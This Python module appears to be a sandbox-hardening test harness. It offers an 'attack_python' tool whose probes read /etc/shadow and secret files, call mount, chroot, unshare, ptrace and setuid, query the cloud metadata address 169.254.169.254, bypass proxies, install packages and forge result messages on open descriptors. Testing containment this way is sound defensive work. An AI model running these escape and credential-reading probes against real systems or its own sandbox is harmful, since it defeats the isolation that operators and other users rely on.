"""Attacks from Python: the escape program where it can be run, and what only Python can try."""

import ctypes
import gc
import json
import os
import socket
import subprocess
import sys
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))


def found(breached, detail=""):
    return {"breached": bool(breached), "detail": str(detail)[:200]}


def py_open_everything(facts):
    for path in (facts.get("database"), facts.get("master_key"), facts.get("host_file"), facts.get("other_work")):
        try:
            with open(path, "rb") as file:
                return found(True, f"read {path}: {file.read(20)!r}")
        except (OSError, TypeError):
            continue
    return found(False)


def py_shell(facts):
    out = subprocess.run(["/bin/sh", "-c", "id; cat /etc/shadow; ls /home /root; ls " + os.path.dirname(facts["database"])],
                         capture_output=True, text=True, timeout=3, check=False).stdout
    return found("root:" in out or "librebird.db" in out or "uid=0" in out, out)


def py_native_code(facts):
    libc = ctypes.CDLL(None, use_errno=True)
    for name, arguments in (("mount", (b"tmpfs", b"/tmp", b"tmpfs", 0, None)), ("chroot", (b"/tmp",)),
                            ("unshare", (0x10000000,)), ("ptrace", (16, 1, 0, 0)), ("setuid", (0,))):
        if getattr(libc, name)(*arguments) == 0:
            return found(True, name)
    return found(False)


def py_objects_of_the_runner(facts):
    # What the runner holds: no value of a secret may be among it, whole or as its two known halves side by side.
    needle = (facts.get("planted_first", "") + "|").split("|")[0]
    rest = facts.get("planted_second", "")
    for item in gc.get_objects():
        if isinstance(item, dict):
            for value in list(item.values()):
                if isinstance(value, str) and needle and needle in value and rest in value and value != needle:
                    at = value.find(needle)
                    if value[at + len(needle):].startswith(rest):
                        return found(True, "a secret among the runner's objects")
    return found(False)


def py_descriptors(facts):
    for fd in range(3, 64):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("/") and not target.startswith(("/tmp", "/work", "/app", "/usr", "/dev", "/sdk", "/proc")):
            return found(True, target)
    return found(False)


def py_sockets(facts):
    for host in ("127.0.0.1", facts.get("host_address") or "127.0.0.1"):
        try:
            socket.create_connection((host, int(facts["host_port"])), timeout=1).close()
            return found(True, f"reached {host}")
        except OSError:
            continue
    return found(False)


def py_urllib(facts):
    for url in (f"http://127.0.0.1:{facts['host_port']}/", f"http://localhost:{facts['host_port']}/",
                f"http://0x7f000001:{facts['host_port']}/", "http://169.254.169.254/latest/meta-data/"):
        try:
            text = urllib.request.urlopen(url, timeout=3).read(100)
        except OSError:
            continue
        if b"CANARY" in text:
            return found(True, f"fetched {url}")
    return found(False)


def py_without_proxy(facts):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        return found(True, opener.open(f"http://127.0.0.1:{facts['host_port']}/", timeout=2).read(20))
    except OSError as error:
        return found(False, error)


def py_call_time_install(facts):
    done = subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "six"], capture_output=True, text=True,
                          timeout=3, check=False)
    return found(done.returncode == 0, done.stderr[-100:])


def py_forged_protocol(facts):
    for fd in range(3, 16):
        try:
            os.write(fd, b'{"type":"result","id":"other","value":{"breached":true}}\n')
        except OSError:
            continue
    return found(False)


NATIVE = {name[3:]: function for name, function in list(globals().items()) if name.startswith("py_")}


def attack(arguments):
    name, facts = arguments["attack"], arguments.get("facts", {})
    if name in NATIVE:
        return {"attack": name, **NATIVE[name](facts)}
    try:
        done = subprocess.run([os.path.join(HERE, "escape-program"), "--once", name, json.dumps(facts)],
                              capture_output=True, text=True, errors="replace", check=False)
    except OSError as error:
        return {"attack": name, **found(False, f"cannot run programs: {error}")}
    try:
        return json.loads(done.stdout.strip().splitlines()[-1])
    except (IndexError, ValueError):
        return {"attack": name, **found(False, f"ended with {done.returncode}")}


TOOL_DEFINITIONS = [{"type": "function", "function": {
    "name": "attack_python", "description": "Attack the sandbox.",
    "parameters": {"type": "object", "properties": {"attack": {"type": "string"}, "facts": {"type": "object"}},
                   "required": ["attack"]}}}]
TOOL_HANDLERS = {"attack_python": attack}
